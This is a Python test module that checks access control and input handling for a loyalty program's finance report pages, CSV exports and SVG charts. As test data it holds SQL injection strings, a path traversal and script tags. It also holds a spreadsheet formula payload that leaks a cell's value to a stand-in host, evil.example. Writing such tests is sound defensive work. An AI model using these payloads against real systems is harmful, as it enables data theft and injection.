"""Abuse tests of the finance reports (/office/reports): strangers and every other role are kept out of the pages,
the CSV and the chart; bad filters answer a readable 4xx, never a 500, and change nothing; a store named like a
formula does not run in a spreadsheet; the chart's own CSP lets no script run."""

from __future__ import annotations

import pytest

from loyalty_core import db
from loyalty_core.reports.refresh import refresh
from loyalty_core.setup import entities as setup
from tests.factories import Shop, make_member, make_shop, sale_body, unique
from tests.office.helpers import Office, make_staff

NAMES = ["liability", "movements", "breakage", "aging", "stores", "rules", "share", "members", "tiers", "coupons"]
PATHS = ["/office/reports/", *(f"/office/reports/{n}" for n in NAMES), *(f"/office/reports/{n}/csv" for n in NAMES),
         *(f"/office/reports/{n}/chart.svg" for n in NAMES)]


async def test_a_stranger_is_sent_to_sign_in_for_every_report(server: str) -> None:
    async with Office(server) as stranger:
        for path in PATHS:
            answer = await stranger.get(path)
            assert answer.status_code == 303 and answer.headers["location"].startswith("/office/login?next="), path


@pytest.mark.parametrize("role", ["support", "marketer", "auditor", "import"])
async def test_every_other_role_is_refused_the_reports(server: str, role: str) -> None:
    async with Office(server) as office:
        await office.signed_in(await make_staff(role))
        home = await office.get("/office/")
        assert "/office/reports" not in home.text  # no link to a page they may not open
        for path in PATHS:
            answer = await office.get(path)
            assert answer.status_code == 403, (role, path, answer.status_code)
            assert "text/csv" not in answer.headers["content-type"] and "svg" not in answer.headers["content-type"]


@pytest.mark.parametrize("role", ["finance", "admin"])
async def test_finance_and_admin_open_every_report(server: str, shop: Shop, role: str) -> None:
    async with Office(server) as office:
        await office.signed_in(await make_staff(role))
        for path in PATHS:
            answer = await office.get(path, program=shop.program_code)
            assert answer.status_code == 200, (path, answer.text[:800])


@pytest.mark.parametrize("query", [
    {"since": "2026-13-01"}, {"since": "'; DROP TABLE ledger_entry; --"}, {"until": "2026-02-30"},
    {"since": "2026-11-20", "until": "2026-11-01"}, {"since": "1900-01-01", "until": "1900-01-02"},
    {"since": "2020-01-01", "until": "2026-01-01", "grain": "day"}, {"grain": "year"}, {"grain": "<script>"},
    {"store": "abc"}, {"store": "-1"}, {"store": "999999999999999999999"}, {"program": "no-such-program"},
])
async def test_bad_filters_answer_a_readable_message_and_change_nothing(server: str, shop: Shop,
                                                                         query: dict[str, str]) -> None:
    before = await db.fetchrow("SELECT (SELECT count(*) FROM report_ledger_day) AS days, "
                               "(SELECT count(*) FROM ledger_entry) AS entries")
    async with Office(server) as office:
        await office.signed_in(await make_staff("finance"))
        params = {"program": shop.program_code, **query}
        page = await office.get("/office/reports/movements", **params)
        assert page.status_code in (404, 422), (query, page.status_code)
        assert 'role="alert"' in page.text and 'data-testid="problem"' in page.text, page.text[-1500:]
        assert "<script>" not in page.text.split("<main", 1)[1]  # what was typed is escaped
        for suffix in ("/csv", "/chart.svg"):
            answer = await office.get("/office/reports/movements" + suffix, **params)
            assert answer.status_code in (404, 422) and 'data-testid="error"' in answer.text, (query, suffix)
    assert await db.fetchrow("SELECT (SELECT count(*) FROM report_ledger_day) AS days, "
                             "(SELECT count(*) FROM ledger_entry) AS entries") == before


@pytest.mark.parametrize(("name", "query"), [
    ("members", {"tier": "platinum"}), ("tiers", {"tier": "<script>"}), ("members", {"tier": "' OR 1=1 --"}),
    ("rules", {"since": "2026-13-01"}), ("share", {"since": "2026-11-20", "until": "2026-11-01"}),
    ("coupons", {"until": "2026-02-30"}), ("tiers", {"grain": "year"}), ("members", {"program": "no-such-program"}),
    ("rules", {"store": "abc"}), ("rules", {"store": "999999999999999999999"}),
])
async def test_bad_filters_of_the_program_reports_are_refused_with_a_reason(server: str, shop: Shop, name: str,
                                                                            query: dict[str, str]) -> None:
    async with Office(server) as office:
        await office.signed_in(await make_staff("finance"))
        params = {"program": shop.program_code, **query}
        page = await office.get(f"/office/reports/{name}", **params)
        assert page.status_code in (404, 422), (name, query, page.status_code)
        assert 'data-testid="problem"' in page.text and "<script>" not in page.text.split("<main", 1)[1]
        for suffix in ("/csv", "/chart.svg"):
            answer = await office.get(f"/office/reports/{name}{suffix}", **params)
            assert answer.status_code in (404, 422) and 'data-testid="error"' in answer.text, (name, query, suffix)
        assert (await office.get(f"/office/reports/{name}", tier="t" * 40)).status_code == 400


async def test_a_tier_of_another_program_is_not_a_filter(server: str, shop: Shop) -> None:
    other = await make_shop()  # the same tier codes, another program: its tiers' ids never reach this one's sums
    async with Office(server) as office:
        await office.signed_in(await make_staff("admin"))
        page = await office.get("/office/reports/members", program=shop.program_code, tier="silver")
        assert page.status_code == 200 and 'value="silver" selected' in page.text
        wrong = await office.get("/office/reports/tiers", program=other.program_code, tier="gold")
        assert wrong.status_code == 200


async def test_over_long_or_unknown_input_is_refused(server: str) -> None:
    async with Office(server) as office:
        await office.signed_in(await make_staff("finance"))
        assert (await office.get("/office/reports/movements", since="9" * 500)).status_code == 400
        assert (await office.get("/office/reports/ledger")).status_code == 404
        assert (await office.get("/office/reports/..%2f..%2fetc")).status_code == 404


async def test_a_store_named_like_a_formula_stays_text_in_the_csv(server: str, shop: Shop, http) -> None:
    evil = await setup.create_store(unique("evil"), '=HYPERLINK("http://evil.example/?"&A1,"Click")<script>alert(1)</script>',
                                    timezone="Europe/Moscow", region="", format="")
    key = await setup.create_till_key((await db.fetchrow("SELECT code FROM store WHERE id = $1", evil))["code"],
                                      "till-1")
    member = await make_member(shop, points=0)
    sale = await http.post("/pos/v1/sales/confirm", headers={"Authorization": f"Bearer {key.key}"},
                           json=sale_body(shop, [("cheese", 1, 100_000)], card=member.card))
    assert sale.status_code == 200, sale.text
    await refresh()
    async with Office(server) as office:
        await office.signed_in(await make_staff("finance"))
        answer = await office.get("/office/reports/stores/csv", program=shop.program_code)
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        assert answer.headers["content-disposition"].startswith("attachment;")
        text = answer.content.decode("utf-8-sig")
        assert "\"'=HYPERLINK(" in text and ";=HYPERLINK" not in text and "\n=" not in text
        chart = await office.get("/office/reports/stores/chart.svg", program=shop.program_code)
        assert chart.headers["content-type"].startswith("image/svg+xml")
        assert "script-src" not in chart.headers["content-security-policy"]
        assert chart.headers["content-security-policy"].startswith("default-src 'none'")
        assert "<script>alert" not in chart.text and "&lt;script&gt;alert(1)" in chart.text
        page = await office.get("/office/reports/stores", program=shop.program_code)
        assert "<script>alert" not in page.text and "&lt;script&gt;alert(1)" in page.text
